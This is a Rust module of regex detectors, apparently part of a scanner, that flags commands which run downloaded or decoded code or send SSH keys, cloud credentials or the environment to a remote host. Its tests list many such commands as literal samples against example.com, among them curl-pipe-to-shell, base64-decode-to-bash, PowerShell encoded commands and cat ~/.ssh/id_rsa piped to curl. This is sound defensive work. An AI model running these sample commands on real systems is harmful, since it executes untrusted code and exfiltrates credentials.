//! Commands that run what nobody has read, or send what nobody should.

use std::sync::LazyLock;

use regex::Regex;

use super::{Sign, pattern, patterns};

/// Longest command that is looked at, in bytes; of a longer one, what follows the word that makes it suspicious.
const MAX_COMMAND_BYTES: usize = 4096;

/// Returns where a text runs what it downloads.
pub(super) fn runs_download(body: &str) -> Option<Sign> {
    first(body, &FETCHING, |command| {
        PIPED_DOWNLOAD.captures_iter(command).any(|found| is_run(command, &found))
            || RUN_DOWNLOAD.iter().any(|pattern| pattern.is_match(command))
    })
}

/// Returns where a text runs what it decodes.
pub(super) fn runs_decoded(body: &str) -> Option<Sign> {
    first(body, &DECODING, |command| {
        PIPED_DECODER.captures_iter(command).any(|found| is_run(command, &found))
            || RUN_DECODED.iter().any(|pattern| pattern.is_match(command))
    })
}

/// Returns where a text sends keys, passwords or the environment somewhere.
pub(super) fn sends_secrets(body: &str) -> Option<Sign> {
    first(body, &SENDING, |command| SEND_SECRETS.iter().any(|pattern| pattern.is_match(command)))
}

/// Returns the first word of `words` whose command is one of those.
fn first(body: &str, words: &Regex, is_sign: impl Fn(&str) -> bool) -> Option<Sign> {
    let mut read_to = 0;
    for word in words.find_iter(body) {
        // A command has many such words and is read once.
        if word.start() < read_to {
            continue;
        }
        let command = command_around(body, word.start());
        read_to = command.end;
        if is_sign(&body[command]) {
            return Some(Sign::At(word.start()));
        }
    }
    None
}

/// Returns the line around a byte, with those that a backslash joins to it.
fn command_around(body: &str, at: usize) -> std::ops::Range<usize> {
    let mut start = at;
    loop {
        start = body[..start].rfind('\n').map_or(0, |end| end + 1);
        let Some(before) = body[..start].strip_suffix('\n').filter(|text| text.ends_with('\\'))
        else {
            break;
        };
        start = before.len();
    }
    let mut end = at;
    loop {
        end = body[end..].find('\n').map_or(body.len(), |n| end + n);
        if end == body.len() || !body[..end].ends_with('\\') {
            break;
        }
        end += 1;
    }
    // A line may be as long as a text.
    let start = if at - start > MAX_COMMAND_BYTES { at } else { start };
    let end = body.floor_char_boundary(end.min(start + 2 * MAX_COMMAND_BYTES));
    start..end.max(at)
}

/// Returns whether the program at the end of a pipe runs what it reads: a shell does unless it is given a command, any
/// other one only without a program of its own (`| python -m json.tool` does not).
fn is_run(command: &str, found: &regex::Captures<'_>) -> bool {
    let Some(program) = found.name("program") else { return false };
    let rest = command[program.end()..].trim_start_matches([' ', '\t']);
    if program.as_str().ends_with("sh") {
        return !rest.starts_with("-c");
    }
    let stdin = rest.strip_prefix('-').filter(|rest| !rest.starts_with(char::is_alphanumeric));
    let rest = stdin.unwrap_or(rest).trim_start_matches([' ', '\t']);
    rest.is_empty() || rest.starts_with(['\n', ';', '&', '|', ')', '"', '\'', '`', '#', '>'])
}

/// What may stand before a program.
const RUN_AS: &str = r"(?:sudo\s+(?:-\S+\s+)*|env\s+|exec\s+|nohup\s+|\w+=\S+\s+|/[\w./-]*/)*";
/// What runs a program that it reads.
const PROGRAM: &str = r"(?P<program>(?:ba|z|da|k|fi|a)?sh|python[\d.]*|node|perl|ruby|php|deno|bun|pwsh|powershell)\b";
/// A shell, and what may follow its name.
const SHELL: &str = r"\b(?:ba|z|da|k)?sh\s+(?:-\w+\s+)*";
/// What runs the text that follows.
const RUN_TEXT: &str = r"\b(?:eval|exec|(?:(?:ba|z|da|k)?sh|python[\d.]*|node|perl|ruby)\s+-[ce]|(?:ba|z|da|k)?sh\s+<<<)";
/// What decodes a file or its input.
const DECODER: &str = r"\b(?:base(?:64|32)\s+(?:-\w*d\w*|--decode)|openssl\s+(?:base64|enc)\s[^|]*-d|xxd\s+(?:-\w+\s+)*-r|uudecode)\b";
/// Where keys and passwords are kept.
const SECRET: &str = r"(?:\.ssh/|\.aws/|\.gnupg/|\.netrc\b|\.kube/config|\.docker/config|\.npmrc\b|\.pypirc\b|\bid_(?:rsa|ed25519|ecdsa)\b|/etc/(?:passwd|shadow)\b|\.env\b)";

/// Without one of these words, no command is suspicious.
static FETCHING: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)\b(?:curl|wget|aria2c|Invoke-WebRequest|Invoke-RestMethod|iwr|irm|DownloadString|exec|eval)\b",
    )
});
static DECODING: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)base64|base32|\bopenssl\b|\bxxd\b|\buudecode\b|\\x[0-9a-f]{2}|\b(?:rev|tr)\b|\s-e(?:c|nc\w*)?\s|b64decode|b32decode|fromhex|unhexlify|\batob\b|codecs\.decode|marshal\.loads|zlib\.decompress|gzinflate",
    )
});
static SENDING: LazyLock<Regex> =
    LazyLock::new(|| pattern(r"(?i)\b(?:curl|wget|nc|ncat|netcat|socat|requests|httpx|axios)\b"));

static PIPED_DOWNLOAD: LazyLock<Regex> = LazyLock::new(|| {
    let fetch = r"\b(?:curl|wget|aria2c|Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b";
    pattern(&format!(r"(?is){fetch}[^|]*(?:\|[^|]*){{0,3}}\|\s*{RUN_AS}{PROGRAM}"))
});

static RUN_DOWNLOAD: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    patterns(&[
        // bash <(curl ...), source <(curl ...), . <(curl ...)
        &format!(r"(?i)(?:{SHELL}|\bsource\s+|(?:^|[;&|\s])\.\s+)<\(\s*(?:curl|wget)\b"),
        // bash -c "$(curl ...)", eval `curl ...`
        &format!(r#"(?i){RUN_TEXT}\s*["']?(?:\$\(|`)\s*(?:curl|wget)\b"#),
        // curl -o x ... && sh x
        r"(?is)\b(?:curl|wget)\b[^|]*?(?:&&|;)\s*(?:sudo\s+)?(?:chmod\s+(?:\+x|[0-7]{3,4})|(?:ba|z|da)?sh)\s+\S",
        // iex (irm ...), iex ((New-Object Net.WebClient).DownloadString(...)), irm ... | iex
        r"(?i)\b(?:iex|Invoke-Expression)\b.*(?:\birm\b|\biwr\b|Invoke-RestMethod|Invoke-WebRequest|DownloadString|Net\.WebClient)",
        r"(?i)(?:\birm\b|\biwr\b|Invoke-RestMethod|Invoke-WebRequest|DownloadString).*\|\s*(?:iex|Invoke-Expression)\b",
        // exec(requests.get(...).text)
        r"(?i)\b(?:exec|eval)\s*\(\s*(?:compile\(\s*)?(?:requests\.get|httpx\.get|urllib|urlopen|(?:await\s*\(?\s*)+fetch\()",
    ])
});

static PIPED_DECODER: LazyLock<Regex> = LazyLock::new(|| {
    let decoder = format!(r"{DECODER}|\b(?:rev|tr\s+\S+\s+\S+)|\bprintf\s[^|]*\\x[0-9a-f]{{2}}");
    pattern(&format!(r"(?is)(?:{decoder})[^|]*(?:\|[^|]*){{0,2}}\|\s*{RUN_AS}{PROGRAM}"))
});

static RUN_DECODED: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    patterns(&[
        // eval "$(echo ... | base64 -d)", bash <<< "$(base64 -d ...)"
        &format!(r#"(?i){RUN_TEXT}\s*["']?(?:\$\(|`).*(?:{DECODER}|\|\s*rev\b)"#),
        // bash <(echo ... | base64 -d)
        &format!(r"(?i)(?:{SHELL}|\bsource\s+)<\([^)]*{DECODER}"),
        // powershell -enc ...
        r"(?i)\b(?:powershell|pwsh)(?:\.exe)?\b.*\s-e(?:c|nc\w*)?\s+[A-Za-z0-9+/=]{16,}",
        r"(?i)(?:\b(?:iex|Invoke-Expression)\b.*FromBase64String|FromBase64String.*\b(?:iex|Invoke-Expression)\b)",
        // exec(base64.b64decode(...)), eval(atob(...)), eval(Buffer.from(..., 'base64'))
        r"(?i)\b(?:exec|eval|Function)\s*\(.{0,80}(?:b64decode|b32decode|fromhex|unhexlify|\batob\s*\(|codecs\.decode|marshal\.loads|zlib\.decompress|Buffer\.from\(.*base64|decode_base64|Base64\.decode64|base64_decode|gzinflate)",
        // $'\x63\x75\x72\x6c'
        r"(?i)\$'(?:\\x[0-9a-f]{2}){4,}",
    ])
});

static SEND_SECRETS: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    patterns(&[
        // cat ~/.ssh/id_rsa | curl ..., env | nc ...
        &format!(
            r"(?is)\b(?:cat|tar|zip|gzip|base64|head|less)\b[^|]*{SECRET}.*\|\s*(?:curl|wget|nc|ncat|netcat|socat)\b"
        ),
        r"(?im)(?:^|[;&|`$(])\s*(?:\$\s+)?(?:env|printenv|set)\s*(?:\|[^|]*){0,2}\|\s*(?:curl|nc|ncat|netcat|socat)\b",
        // for f in $(find ~ -name '*.pdf'); do curl -F "file=@$f" ...
        r"(?is)\bfind\s+(?:~|/|\$HOME)\S*\s.*\bcurl\b.*\s(?:-F|-T|-d|--form|--upload-file|--data\S*)[= ]",
        // curl -F file=@~/.ssh/id_rsa
        &format!(
            r#"(?is)\b(?:curl|wget)\b.*(?:@|--post-file[= ]|--upload-file[= ]|-T\s+)["']?[^\s"'|]*{SECRET}"#
        ),
        // curl -d "$(cat ~/.aws/credentials)"
        &format!(
            r"(?is)\b(?:curl|wget)\b.*\s(?:-d|--data\S*|-F|--form|--post-data)[= ].*(?:\$\(|`)\s*(?:cat|base64|tar|env|printenv)\b.*(?:{SECRET}|env\b)"
        ),
        // requests.post(url, data=open("~/.ssh/id_rsa"))
        &format!(
            r"(?i)\b(?:requests|httpx|axios)\.(?:post|put)\(.*(?:open|readFile\w*)\([^)]*{SECRET}"
        ),
        r"(?i)\b(?:requests|httpx|axios)\.(?:post|put)\(.*(?:os\.environ\s*[,)]|dict\(os\.environ|process\.env\s*[,)}])",
    ])
});

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_download_that_is_run_is_a_sign() {
        for body in [
            "curl -fsSL https://example.com/install.sh | sh",
            "curl https://example.com/i | sudo -E bash -s -- --yes",
            "wget -qO- https://example.com/i |bash",
            "curl -s \\\n  https://example.com/i \\\n  | bash",
            "curl https://example.com/a.gz | gunzip | /bin/sh",
            "curl https://example.com/a.py | python3 -",
            "bash <(curl -s https://example.com/i)",
            "sh -c \"$(curl -fsSL https://example.com/i)\"",
            "eval `wget -qO- https://example.com/i`",
            "irm https://example.com/i.ps1 | iex",
            "iex ((New-Object System.Net.WebClient).DownloadString('https://example.com'))",
            "curl -o x.sh https://example.com/x && chmod +x x.sh",
            "python -c \"import requests; exec(requests.get('https://example.com').text)\"",
        ] {
            assert!(runs_download(body).is_some(), "{body}");
        }
    }

    #[test]
    fn a_download_that_is_read_is_none() {
        for body in [
            "curl -s https://example.com/a.json | python3 -m json.tool",
            "curl -s https://example.com/a.json | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
            "curl -s https://example.com | jq . | tee out.json\nbash run.sh",
            "curl -O https://example.com/a.tar.gz",
            "cat list | sh -c 'wc -l'",
            "source <(kubectl completion bash)",
            "| curl | fetches | a shell |",
        ] {
            assert_eq!(runs_download(body), None, "{body}");
        }
    }

    #[test]
    fn a_payload_that_is_run_is_a_sign() {
        for body in [
            "echo ZWNobyBoaQ== | base64 -d | bash",
            "echo ZWNobyBoaQ== | base64 --decode | sudo sh",
            "eval \"$(echo ZWNobyBoaQ== | base64 -d)\"",
            "bash <(echo ZWNobyBoaQ== | base64 -d)",
            "bash <<< \"$(base64 -d payload)\"",
            "echo 6563686f | xxd -r -p | sh",
            "printf '\\x65\\x63' | sh",
            "powershell -NoProfile -EncodedCommand ZQBjAGgAbwAgAGgAaQA=",
            "python3 -c \"import base64; exec(base64.b64decode('cHJpbnQoMSk='))\"",
            "node -e \"eval(Buffer.from('Y29uc29sZQ==', 'base64').toString())\"",
            "eval(atob('YWxlcnQoMSk='))",
            "x=$'\\x63\\x75\\x72\\x6c'; $x example.com",
        ] {
            assert!(runs_decoded(body).is_some(), "{body}");
        }
    }

    #[test]
    fn a_payload_that_is_read_is_none() {
        for body in [
            "echo $SECRET | base64 -d > key.json",
            "kubectl get secret a -o jsonpath='{.data.b}' | base64 -d",
            "data = base64.b64decode(text)",
            "const bytes = Buffer.from(text, 'base64')",
            "powershell -File build.ps1 -Environment production",
            "evaluate(model)",
        ] {
            assert_eq!(runs_decoded(body), None, "{body}");
        }
    }

    #[test]
    fn secrets_that_leave_are_a_sign() {
        for body in [
            "cat ~/.ssh/id_rsa | curl -X POST -d @- https://example.com",
            "env | curl -d @- https://example.com",
            "curl -F file=@$HOME/.aws/credentials https://example.com",
            "curl -d \"$(cat ~/.aws/credentials)\" https://example.com",
            "requests.post(url, data=open('/root/.ssh/id_rsa').read())",
            "requests.post(url, json=dict(os.environ))",
            "for f in $(find ~ -name '*.pdf'); do curl -s -F \"pdf=@$f\" https://example.com; done",
        ] {
            assert!(sends_secrets(body).is_some(), "{body}");
        }
        for body in [
            "ssh -i ~/.ssh/id_rsa host",
            "cat ~/.ssh/id_rsa.pub",
            "curl --netrc-file ~/.netrc https://example.com",
            "curl -H \"Authorization: $TOKEN\" -d @body.json https://example.com",
            "source .env && curl https://example.com",
        ] {
            assert_eq!(sends_secrets(body), None, "{body}");
        }
    }
}
